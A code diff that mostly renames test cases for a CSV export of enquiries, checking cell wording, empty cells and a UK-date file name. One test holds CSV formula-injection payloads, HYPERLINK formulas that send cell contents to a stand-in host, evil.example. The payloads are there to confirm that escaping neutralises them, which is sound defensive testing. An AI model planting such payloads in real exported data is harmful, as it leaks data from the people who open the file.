@@ -27,7 +27,7 @@ describe('a row', () => {
     expect(new Set(csvHeader).size).toBe(csvHeader.length);
   });
 
-  it('says in words what is stored as a value, and times in UK time', () => {
+  it('words stored values, and shows UK time', () => {
     expect(
       cells({
         industry: 'trades_construction',
@@ -53,24 +53,24 @@ describe('a row', () => {
     });
   });
 
-  it('leaves a cell empty where there is nothing', () => {
+  it('leaves a cell empty without a value', () => {
     const row = cells({ industry: null, dueAt: null, estimate: null, notes: undefined });
     for (const header of ['Industry', 'Answer due', 'Estimate in £', 'Notes', 'Reference']) {
       expect(row[header], header).toBe('');
     }
   });
 
-  it('keeps a value that is none of ours any more', () => {
+  it('keeps a value that is no longer an option', () => {
     expect(cells({ projectType: 'mobile_app' }).Project).toBe('mobile_app');
   });
 });
 
-describe('what a spreadsheet would take for a formula', () => {
+describe('text that a spreadsheet would execute as a formula', () => {
   const formulas = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\n=', '＝'].map((start) => [
     `${start}HYPERLINK("https://evil.example?"&A1,"x")`,
   ]);
 
-  it.each(formulas)('is made harmless: %j', (text) => {
+  it.each(formulas)('is neutralised: %j', (text) => {
     const row = csvRow({ ...enquiry, name: text, message: text, notes: text });
     const csv = stringify([row], { escape_formulas: true });
     expect(csv).not.toMatch(/(^|,|")\s*[=+\-@＝]/);
@@ -78,7 +78,7 @@ describe('what a spreadsheet would take for a formula', () => {
   });
 });
 
-it('the file is named after the UK day', () => {
+it('the file name has the UK date', () => {
   expect(csvFileName('enquiries', new Date('2026-06-30T23:15:00Z'))).toBe(
     'enquiries-2026-07-01.csv',
   );
